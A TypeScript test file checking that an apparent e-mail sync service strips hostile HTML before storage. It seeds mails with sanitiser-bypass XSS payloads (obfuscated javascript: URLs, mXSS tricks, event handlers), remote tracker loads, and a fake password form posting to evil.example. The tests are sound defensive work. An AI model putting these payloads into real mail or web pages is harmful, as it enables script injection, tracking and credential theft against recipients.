// Attacks by mails, on what the reader keeps of them. That a browser runs and loads none of it is for the journeys.
import { afterAll, beforeAll, expect, test } from "vitest";
import type { DenoFunction } from "../testing/deno.ts";
import { letter, syncBox } from "../testing/mail-asks.ts";
import { type Box, type MailField, openMailField } from "../testing/mail-field.ts";

let field: MailField;
let sync: DenoFunction;
let box: Box;
beforeAll(async () => {
  field = await openMailField();
  sync = await field.start("gmail-sync");
  box = await field.connect(await field.addOrg(), "rep@acme.example", { days: 90 });
});
afterAll(() => field?.close());

/** What is kept of mails with this HTML, in their order. */
async function kept(...mails: string[]): Promise<string[]> {
  const ids = mails.map((_, n) => `attack-${Math.random().toString(36).slice(2)}-${n}`);
  await field.google.seed(
    box.address,
    mails.map((html, n) => ({
      raw: letter({
        from: "eve@evil.example",
        to: box.address,
        subject: ids[n]!,
        text: "plain",
        html,
      }),
    })),
  );
  await syncBox(sync, field, box);
  const { rows } = await field.owner.query<{ subject: string; html: string | null }>(
    "select e.subject, b.html from public.emails e join public.email_bodies b using (org_id, id) where e.org_id = $1 and e.subject = any ($2)",
    [box.orgId, ids],
  );
  expect(rows).toHaveLength(mails.length);
  return ids.map((id) => rows.find(({ subject }) => subject === id)!.html ?? "");
}

test("31 · `<script>`, `onerror` in e-mail: nothing of it is kept", async () => {
  const stored = await kept(
    "<p>One</p><script>alert(1)</script><img src=x onerror=alert(1)>",
    "<p>Two</p><ScRiPt\n>alert(1)</sCrIpT\t\n><b onmouseover='alert(1)' style='x:expression(alert(1))'>b</b>",
    '<p>Three</p><a href="java\tscript:alert(1)">a</a><a href=" &#x6A;avascript:alert(1)">b</a><a href="data:text/html,<script>1</script>">c</a>',
    "<p>Four</p><iframe srcdoc='<script>alert(1)</script>'></iframe><noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    '<p>Five</p><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<p>Six</p><template><script>alert(1)</script></template><details ontoggle=alert(1) open>x</details><marquee onstart=alert(1)>y</marquee>",
  );
  for (const [n, html] of stored.entries()) {
    expect(html, `mail ${n}`).toMatch(/<p>(One|Two|Three|Four|Five|Six)<\/p>/);
    expect(html, `mail ${n}`).not.toMatch(
      /<(?:script|iframe|template|noscript|math|svg|style|object|embed)|\son\w+\s*=|javascript:|data:text|srcdoc|expression\(/i,
    );
  }
});

test("32 · SVG `<image xlink:href>` and other loads from outside in e-mail: nothing loads by itself", async () => {
  const evil = "https://tracker.example/x";
  const stored = await kept(
    `<p>One</p><svg><image xlink:href="${evil}" href="${evil}"/><use href="${evil}#a"/></svg>`,
    `<p>Two</p><style>@import url(${evil})</style><link rel=stylesheet href="${evil}"><p style="background:url(${evil})">x</p>`,
    `<p>Three</p><img src="data:image/svg+xml;base64,PHN2Zy8+"><img srcset="${evil} 2x"><picture><source srcset="${evil}"></picture><video src="${evil}" poster="${evil}"></video><audio src="${evil}"></audio>`,
    `<p>Four</p><table background="${evil}"><tr><td background="${evil}">x</td></tr></table><body background="${evil}"><object data="${evil}"></object><embed src="${evil}">`,
    `<p>Five</p><img src="${evil}"><img src="//tracker.example/y">`,
  );
  const loads =
    / (?:src|srcset|href|background|poster|data|xlink:href)=["']?(?:https?:)?\/\/|url\(|@import|image\/svg/i;
  for (const [n, html] of stored.entries()) expect(html, `mail ${n}`).not.toMatch(loads);
  // A remote picture waits under another name until its reader asks for it.
  expect(stored[4]).toContain(`data-remote-src="${evil}"`);
});

test("34 · form, meta refresh, base in e-mail: stripped, and what they said stays readable", async () => {
  const [html] = await kept(
    `<head><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/"></head><p>Your invoice</p>
     <form action="https://evil.example/"><label>Password <input name="password" autofocus></label><button formaction="https://evil.example/">Sign in</button><textarea>x</textarea><select><option>y</option></select></form>
     <a href="/relative" target="_top" ping="https://evil.example/ping">Pay</a>`,
  );
  expect(html).toContain("<p>Your invoice</p>");
  expect(html).toContain("Pay");
  expect(html).not.toMatch(
    /<(?:base|meta|form|input|button|textarea|select|option|label)\b|action=|http-equiv|ping=|target="_top"/i,
  );
});
